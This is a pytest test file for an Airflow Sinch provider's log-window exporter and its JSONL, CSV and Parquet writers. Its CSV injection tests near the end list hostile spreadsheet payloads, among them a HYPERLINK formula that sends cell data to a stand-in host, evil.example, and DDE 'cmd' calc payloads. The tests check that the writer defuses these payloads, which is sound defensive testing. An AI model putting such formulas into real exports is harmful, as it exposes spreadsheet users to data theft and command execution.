"""Exports: adaptive log windows (each event exactly once), and the JSONL / CSV / Parquet writers.

The window logic is driven by a fake log endpoint (a function), with no HTTP at all; the writers
are read back the way their users read them (``json``, the ``csv`` module as spreadsheets parse,
``pyarrow`` as warehouses do).
"""

from __future__ import annotations

import bisect
import csv
import io
import json
import os
import sys
from collections import Counter
from datetime import datetime, timedelta, timezone
from itertools import pairwise
from pathlib import Path
from typing import Any

import pytest
import requests
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from requests.structures import CaseInsensitiveDict

from airflow_provider_sinch import exports
from airflow_provider_sinch._compat import AirflowOptionalProviderFeatureException
from airflow_provider_sinch.exceptions import SinchValidationError
from airflow_provider_sinch.exports import (
    CAMPAIGN_LOG,
    CAMPAIGN_STATS,
    WindowSizing,
    check_export_format,
    events_in_window,
    iter_log_windows,
    open_export,
    parquet_schema,
    read_limited,
)

BASE = datetime(2026, 1, 1, tzinfo=timezone.utc)
EPOCH = int(BASE.timestamp())
API = "%Y-%m-%d %H:%M:%S"


def api(second: int) -> str:
    """The API string of ``BASE + second``."""
    return (BASE + timedelta(seconds=second)).strftime(API)


def second_of(text: str) -> int:
    return int(datetime.strptime(text, API).replace(tzinfo=timezone.utc).timestamp()) - EPOCH


class FakeLog:
    """The log endpoint: events at whole seconds, both bounds inclusive, ``per_event`` bytes each.

    ``slop`` widens every answer by that many seconds on both sides (a server that rounds its
    bounds), to show that the client still writes each event once.
    """

    def __init__(self, seconds: list[int], *, per_event: int = 100, slop: int = 0) -> None:
        self.seconds = sorted(seconds)
        self.events = [{"datetime": api(s), "id": i} for i, s in enumerate(self.seconds)]
        self.per_event = per_event
        self.slop = slop
        #: ``(first second, last second, max_bytes, read)`` per request.
        self.calls: list[tuple[int, int, int | None, bool]] = []

    def __call__(self, first: str, last: str, max_bytes: int | None) -> tuple[list[dict] | None, int]:
        lo, hi = second_of(first), second_of(last)
        chosen = self.events[
            bisect.bisect_left(self.seconds, lo - self.slop) : bisect.bisect_right(
                self.seconds, hi + self.slop
            )
        ]
        size = 20 + self.per_event * len(chosen)
        read = max_bytes is None or size <= max_bytes
        self.calls.append((lo, hi, max_bytes, read))
        return ([dict(e) for e in chosen] if read else None), size

    @property
    def read_windows(self) -> list[tuple[int, int]]:
        return [(lo, hi) for lo, hi, _, read in self.calls if read]


def export(fake: FakeLog, start: datetime, stop: datetime, sizing: WindowSizing | None = None) -> list[dict]:
    return [event for window in iter_log_windows(fake, start, stop, sizing) for event in window]


# --- Window boundaries ---------------------------------------------------------------------------
at = BASE.__add__
FIXED_MINUTE = WindowSizing(first=timedelta(minutes=1), growth=1, target_events=10**9)


@pytest.mark.parametrize(
    ("start", "stop", "events", "written"),
    [
        (at(timedelta()), at(timedelta(hours=1)), [-1, 0, 3599, 3600], [0, 3599]),
        (at(timedelta(microseconds=500_000)), at(timedelta(hours=1)), [0, 1], [1]),
        (at(timedelta()), at(timedelta(hours=1, microseconds=500_000)), [3600, 3601], [3600]),
        (at(timedelta()), at(timedelta(minutes=3)), [59, 60, 119, 120, 179, 180], [59, 60, 119, 120, 179]),
        (at(timedelta(seconds=30)), at(timedelta(seconds=30)), [30], []),
        (at(timedelta(seconds=31)), at(timedelta(seconds=30)), [30], []),
        (datetime(2026, 1, 1), datetime(2026, 1, 1, 0, 1), [0, 60], [0]),
    ],
    ids=[
        "start-inclusive-stop-exclusive",
        "fractional-start-skips-its-second",
        "fractional-stop-keeps-its-second",
        "events-on-window-edges-once",
        "empty-interval-asks-nothing",
        "reversed-interval-asks-nothing",
        "naive-means-utc",
    ],
)
def test_window_boundaries(start: datetime, stop: datetime, events: list[int], written: list[int]) -> None:
    fake = FakeLog(events)
    assert [second_of(e["datetime"]) for e in export(fake, start, stop, FIXED_MINUTE)] == written
    if stop <= start:
        assert fake.calls == []


def test_windows_are_whole_seconds_laid_end_to_end() -> None:
    fake = FakeLog([])
    export(fake, at(timedelta(microseconds=1)), at(timedelta(minutes=3, microseconds=1)), FIXED_MINUTE)
    assert fake.read_windows == [(1, 60), (61, 120), (121, 180)]


# --- Every event exactly once, whatever the sizes and the server ------------------------------------
@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    events=st.lists(st.integers(min_value=-50, max_value=3000), max_size=300),
    start_second=st.integers(min_value=-20, max_value=1500),
    start_micro=st.integers(min_value=0, max_value=999_999),
    duration=st.integers(min_value=0, max_value=3000),
    stop_micro=st.integers(min_value=0, max_value=999_999),
    first=st.integers(min_value=1, max_value=4000),
    longest=st.integers(min_value=1, max_value=5000),
    target=st.integers(min_value=1, max_value=60),
    max_bytes=st.integers(min_value=1024, max_value=6000),
    growth=st.integers(min_value=1, max_value=8),
    slop=st.integers(min_value=0, max_value=3),
)
def test_every_event_in_the_interval_is_written_exactly_once(
    events: list[int],
    start_second: int,
    start_micro: int,
    duration: int,
    stop_micro: int,
    first: int,
    longest: int,
    target: int,
    max_bytes: int,
    growth: int,
    slop: int,
) -> None:
    start = at(timedelta(seconds=start_second, microseconds=start_micro))
    stop = at(timedelta(seconds=start_second + duration, microseconds=stop_micro))
    sizing = WindowSizing(
        first=timedelta(seconds=first),
        longest=timedelta(seconds=longest),
        target_events=target,
        max_bytes=max_bytes,
        growth=growth,
    )
    fake = FakeLog(events, slop=slop)

    written = export(fake, start, stop, sizing)

    expected = [
        e["id"] for e in fake.events if start <= at(timedelta(seconds=second_of(e["datetime"]))) < stop
    ]
    assert Counter(e["id"] for e in written) == Counter(expected)
    # The windows read cover [first second >= start, last second < stop] end to end, no gap, no overlap.
    windows = fake.read_windows
    if stop > start and windows:
        first_second = -(-(start - BASE) // timedelta(seconds=1))  # the first whole second >= start
        assert windows[0][0] == first_second
        assert all(a[1] + 1 == b[0] for a, b in pairwise(windows))
        assert at(timedelta(seconds=windows[-1][1])) < stop <= at(timedelta(seconds=windows[-1][1] + 1))
    # No answer over the byte bound is read, except a one-second window (it cannot be split).
    for lo, hi, bound, read in fake.calls:
        if hi > lo:
            assert bound == max_bytes
        else:
            assert bound is None
            assert read


# --- Adaptive sizes --------------------------------------------------------------------------------
def test_quiet_campaign_windows_grow_to_a_day() -> None:
    month = 30 * 24 * 3600
    fake = FakeLog(list(range(0, month, 3600)))  # one event an hour for 30 days

    written = export(fake, BASE, at(timedelta(seconds=month)))

    assert len(written) == 720
    lengths = [hi - lo + 1 for lo, hi in fake.read_windows]
    assert lengths[:7] == [10, 40, 160, 640, 2560, 10240, 40960]
    assert set(lengths[7:-1]) == {86400}
    assert len(fake.calls) == 37  # one request an hour would have been 720


def test_dense_campaign_windows_shrink_to_the_target() -> None:
    fake = FakeLog([s for s in range(7200) for _ in range(10)])  # 10 events a second for two hours
    sizing = WindowSizing(
        first=timedelta(hours=1), target_events=100, dense_target_events=1000, max_bytes=10**9
    )

    written = export(fake, BASE, at(timedelta(hours=2)), sizing)

    assert len(written) == 72_000
    sizes = [hi - lo + 1 for lo, hi in fake.read_windows]
    assert sizes[0] == 3600
    assert set(sizes[1:-1]) == {100}  # 1000 events: the dense target (an hour holds 36,000)


def test_answer_over_the_byte_bound_is_not_read_but_asked_again_shorter(caplog: Any) -> None:
    fake = FakeLog([s for s in range(600) for _ in range(10)], per_event=100)  # 1 kB per second
    sizing = WindowSizing(first=timedelta(minutes=10), max_bytes=64 * 1024)

    with caplog.at_level("INFO", logger="airflow_provider_sinch.exports"):
        written = export(fake, BASE, at(timedelta(minutes=10)), sizing)

    assert len(written) == 6000
    first_call, second_call = fake.calls[:2]
    assert first_call == (0, 599, 64 * 1024, False)  # 600 kB announced: not read
    assert second_call[0] == 0
    assert second_call[3] is True
    assert second_call[1] + 1 == 600 * 32 * 1024 // 600_020  # half the bound, in proportion
    assert "holds 600020 bytes, over the 65536-byte bound" in caplog.text


def test_one_second_over_the_bound_is_read_whole() -> None:
    fake = FakeLog([5] * 100, per_event=100)  # 10 kB in one second
    written = export(
        fake, BASE, at(timedelta(seconds=10)), WindowSizing(first=timedelta(seconds=10), max_bytes=1024)
    )
    assert len(written) == 100
    assert (5, 5, None, True) in fake.calls


@pytest.mark.parametrize(
    ("length", "events", "size", "expected"),
    [
        (3600, 0, 30, 14_400),  # nothing: grow by the growth factor
        (3600, 500, 200_000, 14_400),  # a quarter of the target: grow four times
        (3600, 1000, 400_000, 7200),
        (3600, 2000, 800_000, 3600),  # on target: keep
        (3600, 8000, 3_200_000, 3600),  # 8,000 an hour: an hour, as an hour-at-a-time loop holds
        (60, 10_000, 3_300_000, 60),  # 600,000 an hour: the dense target
        (60, 40_000, 13_200_000, 15),  # four times the dense target: a quarter
        (60, 100, 8 * 1024 * 1024, 30),  # few events but a full byte bound: half
        (86_400, 0, 30, 86_400),  # never longer than a day
        (1, 10**6, 10**9, 1),  # never shorter than a second
    ],
)
def test_next_window_length(length: int, events: int, size: int, expected: int) -> None:
    assert WindowSizing().next_length(length, events, size) == expected


@pytest.mark.parametrize(
    ("length", "size", "expected"),
    [
        (3600, 64 * 1024 * 1024, 225),
        (3600, 9 * 1024 * 1024, 1600),
        (3600, 10 * 1024 * 1024, 1440),
        (3600, 10**12, 1),
        (1, 10**9, 1),
        (2, 10**9, 1),
    ],
)
def test_split_length_is_proportional_and_at_most_half(length: int, size: int, expected: int) -> None:
    assert WindowSizing().split_length(length, size) == expected


def test_sizing_is_checked() -> None:
    with pytest.raises(SinchValidationError) as err:
        WindowSizing(first=timedelta(milliseconds=10), target_events=0, max_bytes=10, growth=0)
    assert err.value.fields == ["window", "target_events", "max_bytes", "growth"]


# --- Placing events in their window ----------------------------------------------------------------
FIRST, LAST = "2026-01-01 00:00:00", "2026-01-01 00:59:59"


def test_well_shaped_datetimes_are_compared_as_strings_never_parsed(monkeypatch: pytest.MonkeyPatch) -> None:
    def no_parsing(value: Any) -> None:
        raise AssertionError(f"parsed {value!r}")

    monkeypatch.setattr(exports, "parse_timestamp", no_parsing)
    events = [{"datetime": FIRST}, {"datetime": "2026-01-01 00:30:00"}, {"datetime": LAST}]
    assert events_in_window(events, FIRST, LAST) == events


@pytest.mark.parametrize(
    ("value", "kept"),
    [
        ("2025-12-31 23:59:59", False),
        ("2026-01-01 01:00:00", False),
        ("2026-01-01T00:30:00", True),
        ("2026-01-01T01:30:00Z", False),
        ("2026-01-01 00:30:00+02:00", False),  # 2025-12-31 22:30 UTC
        ("2026-01-01 02:30:00+02:00", True),  # 00:30 UTC
        ("2026-01-01 00:59:59.5", True),
        (None, True),  # cannot be placed: kept with the window that returned it
        ("yesterday", True),
        ("2026-01-01 aa:bb:cc", True),  # the API's length and separators, but no date-time
        (1767225600, True),
    ],
)
def test_other_shapes_are_parsed_to_place_them(value: Any, kept: bool) -> None:
    events = [{"datetime": FIRST, "n": 0}, {"datetime": value, "n": 1}]
    assert [e["n"] for e in events_in_window(events, FIRST, LAST)] == ([0, 1] if kept else [0])


def test_event_without_datetime_is_kept() -> None:
    events = [{"type": "SUBMIT"}, {"datetime": FIRST}]
    assert events_in_window(events, FIRST, LAST) == events


# --- Reading a body within a bound -------------------------------------------------------------------
def response(body: bytes, *, announce: bool) -> requests.Response:
    answer = requests.Response()
    answer.status_code = 200
    answer.raw = io.BytesIO(body)
    answer.headers = CaseInsensitiveDict({"Content-Length": str(len(body))} if announce else {})
    return answer


@pytest.mark.parametrize(
    ("size", "announce", "bound", "read"),
    [
        (100, True, 1024, True),
        (2000, True, 1024, False),
        (100, False, 1024, True),
        (200_000, False, 100_000, False),
        (2000, True, None, True),
    ],
    ids=["announced-small", "announced-large", "chunked-small", "chunked-large", "no-bound"],
)
def test_read_limited(size: int, announce: bool, bound: int | None, read: bool) -> None:
    body = b"x" * size
    answer = response(body, announce=announce)

    got, seen = read_limited(answer, bound)

    assert got == (body if read else None)
    if read or announce:
        assert seen == size
    else:
        assert bound is not None
        assert bound < seen <= bound + (1 << 16)  # stopped reading at the first chunk past the bound
        assert answer.raw.closed


# --- Writers -----------------------------------------------------------------------------------------
EVENTS = [
    {
        "datetime": "2015-07-06 17:30:00",
        "contact": {"msisdn": "33612345678", "code": "0", "channel": "sms"},
        "type": "SUBMIT",
        "data": {"datetime": "2015-07-06 17:29:54", "success": True, "message": "Bonjour Renée, ça va ? 😀"},
    },
    {
        "datetime": "2015-07-06 17:30:01",
        "contact": {"push_id": "clientid", "channel": "push", "columns": ["CLIENT1234", 'Dupont, "Al"\nx']},
        "type": "RESPONSE",
        "data": {"message": "STOP", "stop": True},
    },
    {"datetime": "2015-07-06T17:31:00Z", "contact": None, "type": "VISIT", "data": None},
]
STATS = [
    {
        "msisdn": "33612345678",
        "url": "https://rsms.us/bTD0",
        "message": "Bonjour Alice ! Clique ici https://rsms.us/bTD0",
        "submitted": "2014-12-16 13:00:00",
        "delivered": "2014-12-16 13:30:00",
        "stopped": None,
        "visits": 2,
        "datetimes": "2014-12-16 14:00:00,2014-12-16 14:30:00",
        "preview": None,
        "user_agent": "Firefox OS",
        "npai": False,
    },
    {
        "msisdn": "33612345679",
        "url": "https://rsms.us/bTD1",
        "message": "Bonjour Bob !",
        "submitted": "2014-12-16 13:01:00",
        "delivered": None,
        "stopped": "2014-12-16 13:40:00",
        "visits": 0,
        "datetimes": None,
        "preview": True,
        "user_agent": None,
        "npai": True,
        "columns": ["CLIENT5678", "Bob"],
    },
]


def write(
    tmp_path: Path, file_format: str, kind: exports.RecordKind, records: list[dict], **kwargs: Any
) -> Path:
    target = tmp_path / f"out.{file_format}"
    with open_export(target, file_format, kind) as (writer, where):
        for start in range(0, len(records), 2):
            writer.write_batch(records[start : start + 2])
    assert where == str(target)
    assert writer.count == len(records)
    return target


def test_jsonl_is_the_api_records_in_their_key_order_utf8(tmp_path: Path) -> None:
    target = write(tmp_path, "jsonl", CAMPAIGN_LOG, EVENTS)
    lines = target.read_bytes().decode("utf-8").splitlines()
    assert [json.loads(line) for line in lines] == EVENTS
    assert lines[0].startswith('{"datetime": "2015-07-06 17:30:00", "contact": {"msisdn"')
    assert "Bonjour Renée, ça va ? 😀" in lines[0]


def test_csv_reads_back_as_a_spreadsheet_would(tmp_path: Path) -> None:
    target = write(tmp_path, "csv", CAMPAIGN_LOG, EVENTS)
    raw = target.read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")  # no BOM: see the README
    assert raw.startswith(b"datetime,type,msisdn,push_id,code,channel,columns,data\r\n")
    with target.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["type"] for r in rows] == ["SUBMIT", "RESPONSE", "VISIT"]
    assert rows[0]["msisdn"] == "33612345678"
    assert rows[0]["push_id"] == ""  # null: an empty cell
    assert json.loads(rows[0]["data"]) == EVENTS[0]["data"]
    assert "Bonjour Renée, ça va ? 😀" in rows[0]["data"]
    # A comma, quotes and a line break inside a cell survive the round trip.
    assert json.loads(rows[1]["columns"]) == ["CLIENT1234", 'Dupont, "Al"\nx']
    assert rows[2] == {k: "" for k in rows[2]} | {"datetime": "2015-07-06T17:31:00Z", "type": "VISIT"}


def test_stats_csv_columns(tmp_path: Path) -> None:
    target = write(tmp_path, "csv", CAMPAIGN_STATS, STATS)
    with target.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert list(rows[0]) == CAMPAIGN_STATS.column_names
    assert rows[0]["stopped"] == ""
    assert rows[0]["npai"] == "false"
    assert rows[0]["datetimes"] == "2014-12-16 14:00:00,2014-12-16 14:30:00"
    assert rows[1]["stopped"] == "true"
    assert rows[1]["stopped_at"] == "2014-12-16 13:40:00"
    assert rows[1]["columns"] == '["CLIENT5678", "Bob"]'


def utc(*args: int) -> datetime:
    return datetime(*args, tzinfo=timezone.utc)


def test_parquet_log_schema_and_values(tmp_path: Path) -> None:
    import pyarrow.parquet as pq

    target = write(tmp_path, "parquet", CAMPAIGN_LOG, EVENTS)
    table = pq.read_table(target)

    assert [(f.name, str(f.type)) for f in table.schema] == [
        ("datetime", "timestamp[ms, tz=UTC]"),
        ("type", "string"),
        ("msisdn", "string"),
        ("push_id", "string"),
        ("code", "string"),
        ("channel", "string"),
        ("columns", "list<element: string>"),
        ("data", "string"),
    ]
    assert table.schema.metadata[b"sinch.export"] == b"campaign_log"
    assert table.schema.metadata[b"sinch.schema_version"] == b"1"
    rows = table.to_pylist()
    assert rows[0] | {"data": json.loads(rows[0]["data"])} == {
        "datetime": utc(2015, 7, 6, 17, 30),
        "type": "SUBMIT",
        "msisdn": "33612345678",
        "push_id": None,
        "code": "0",
        "channel": "sms",
        "columns": None,
        "data": EVENTS[0]["data"],
    }
    assert rows[1]["columns"] == ["CLIENT1234", 'Dupont, "Al"\nx']
    assert rows[2]["datetime"] == utc(2015, 7, 6, 17, 31)  # the ISO shape is parsed too
    assert rows[2]["data"] is None


def test_parquet_stats_schema_and_values(tmp_path: Path) -> None:
    import pyarrow.parquet as pq

    rows = pq.read_table(write(tmp_path, "parquet", CAMPAIGN_STATS, STATS)).to_pylist()

    assert rows[0] == {
        "msisdn": "33612345678",
        "url": "https://rsms.us/bTD0",
        "message": "Bonjour Alice ! Clique ici https://rsms.us/bTD0",
        "submitted": utc(2014, 12, 16, 13),
        "delivered": utc(2014, 12, 16, 13, 30),
        "stopped": None,
        "stopped_at": None,
        "visits": 2,
        "datetimes": [utc(2014, 12, 16, 14), utc(2014, 12, 16, 14, 30)],
        "preview": None,
        "user_agent": "Firefox OS",
        "npai": False,
        "columns": None,
    }
    assert rows[1]["stopped"] is True
    assert rows[1]["stopped_at"] == utc(2014, 12, 16, 13, 40)
    assert rows[1]["datetimes"] is None
    assert rows[1]["columns"] == ["CLIENT5678", "Bob"]


def test_parquet_schema_does_not_depend_on_the_records(tmp_path: Path) -> None:
    import pyarrow.parquet as pq

    empty = pq.read_table(write(tmp_path, "parquet", CAMPAIGN_STATS, []))
    assert empty.num_rows == 0
    assert empty.schema.equals(pq.read_table(write(tmp_path, "parquet", CAMPAIGN_STATS, STATS)).schema)
    assert [f.name for f in parquet_schema(CAMPAIGN_STATS)] == CAMPAIGN_STATS.column_names


def test_parquet_is_written_in_row_groups(tmp_path: Path) -> None:
    import pyarrow.parquet as pq

    target = tmp_path / "log.parquet"
    with target.open("wb") as fh:
        writer = exports.ParquetWriter(fh, CAMPAIGN_LOG, row_group_rows=4)
        writer.write_batch(EVENTS * 3)  # 9 rows in one batch
        writer.write_batch(EVENTS[:1])
        writer.close()
    metadata = pq.ParquetFile(target).metadata
    assert [metadata.row_group(i).num_rows for i in range(metadata.num_row_groups)] == [4, 4, 2]
    assert pq.read_table(target).column("type").to_pylist() == ["SUBMIT", "RESPONSE", "VISIT"] * 3 + [
        "SUBMIT"
    ]


def test_odd_values_do_not_break_the_schema(tmp_path: Path) -> None:
    import pyarrow.parquet as pq

    odd = {
        "msisdn": 33612345678,
        "submitted": "not a date",
        "visits": "3",
        "datetimes": "2014-12-16 14:00:00, 2014-12-16T15:00:00Z",
        "preview": 1,
        "columns": "one",
    }
    row = pq.read_table(write(tmp_path, "parquet", CAMPAIGN_STATS, [odd])).to_pylist()[0]
    assert row["msisdn"] == "33612345678"
    assert row["submitted"] is None
    assert row["visits"] == 3
    assert row["datetimes"] == [utc(2014, 12, 16, 14), utc(2014, 12, 16, 15)]
    assert row["preview"] is True
    assert row["columns"] == ["one"]


def test_parquet_without_pyarrow_names_the_extra(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    target = tmp_path / "log.parquet"
    with (
        pytest.raises(AirflowOptionalProviderFeatureException, match=r"airflow-provider-sinch\[parquet\]"),
        open_export(target, "parquet", CAMPAIGN_LOG),
    ):
        pass
    assert not target.exists()
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("file_format", ["jsonl", "csv", "parquet"])
def test_a_failed_export_leaves_no_file(tmp_path: Path, file_format: str) -> None:
    target = tmp_path / f"log.{file_format}"

    def fail_midway() -> None:
        with open_export(target, file_format, CAMPAIGN_LOG) as (writer, _):
            writer.write_batch(EVENTS)
            raise RuntimeError("boom")

    with pytest.raises(RuntimeError, match="boom"):
        fail_midway()
    assert list(tmp_path.iterdir()) == []


def test_object_storage_destination(tmp_path: Path) -> None:
    import pyarrow.parquet as pq
    from airflow.sdk import ObjectStoragePath

    destination = ObjectStoragePath(f"file://{tmp_path}/stats.parquet")
    with open_export(destination, "parquet", CAMPAIGN_STATS) as (writer, where):
        writer.write_batch(STATS)
    # With universal-pathlib < 0.3 (Airflow < 3.2) a file:// ObjectStoragePath is os.PathLike: it is
    # written as the local file it names, and reported by that file's path.
    local = isinstance(destination, os.PathLike)
    assert where == (str(tmp_path / "stats.parquet") if local else str(destination))
    assert pq.read_table(tmp_path / "stats.parquet").num_rows == 2


@pytest.mark.parametrize("file_format", ["json", "CSV", "xlsx", ""])
def test_unknown_export_format(file_format: str) -> None:
    with pytest.raises(
        SinchValidationError, match=r"^file_format: must be one of \('jsonl', 'csv', 'parquet'\), got"
    ):
        check_export_format(file_format)


# --- CSV injection -----------------------------------------------------------------------------------
#: What a visitor, a contact list or a note can put in a text cell, and what the CSV cell holds.
FORMULAS = [
    ('=HYPERLINK("http://evil.example/?"&A1,"Click")', '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("=1+1", "'=1+1"),
    # Numbers are not formulas: phone numbers and negative numbers keep their text.
    ("+46701234567", "+46701234567"),
    ("+1 (555) 010-0199", "+1 (555) 010-0199"),
    ("-5", "-5"),
    ("Mozilla/5.0 (X11; Linux x86_64)", "Mozilla/5.0 (X11; Linux x86_64)"),
    ("a=b", "a=b"),
]


@pytest.mark.parametrize(("value", "cell"), FORMULAS, ids=[repr(v)[:24] for v, _ in FORMULAS])
def test_csv_text_a_spreadsheet_would_run_is_written_as_text(tmp_path: Path, value: str, cell: str) -> None:
    record = {**STATS[0], "user_agent": value, "message": value, "url": value, "msisdn": "+46701234567"}
    target = write(tmp_path, "csv", CAMPAIGN_STATS, [record])
    with target.open(encoding="utf-8", newline="") as fh:
        [row] = list(csv.DictReader(fh))
    assert (row["user_agent"], row["message"], row["url"]) == (cell, cell, cell)
    assert row["msisdn"] == "+46701234567"
    # JSON lines (and Parquet) keep the API's value, for loaders.
    jsonl = write(tmp_path, "jsonl", CAMPAIGN_STATS, [record])
    assert json.loads(jsonl.read_text(encoding="utf-8"))["user_agent"] == value


def test_csv_log_cells_are_defused_too(tmp_path: Path) -> None:
    event = {**EVENTS[0], "type": "=1+1", "contact": {**EVENTS[0]["contact"], "code": "@x"}}
    target = write(tmp_path, "csv", CAMPAIGN_LOG, [event])
    with target.open(encoding="utf-8", newline="") as fh:
        [row] = list(csv.DictReader(fh))
    assert (row["type"], row["code"]) == ("'=1+1", "'@x")
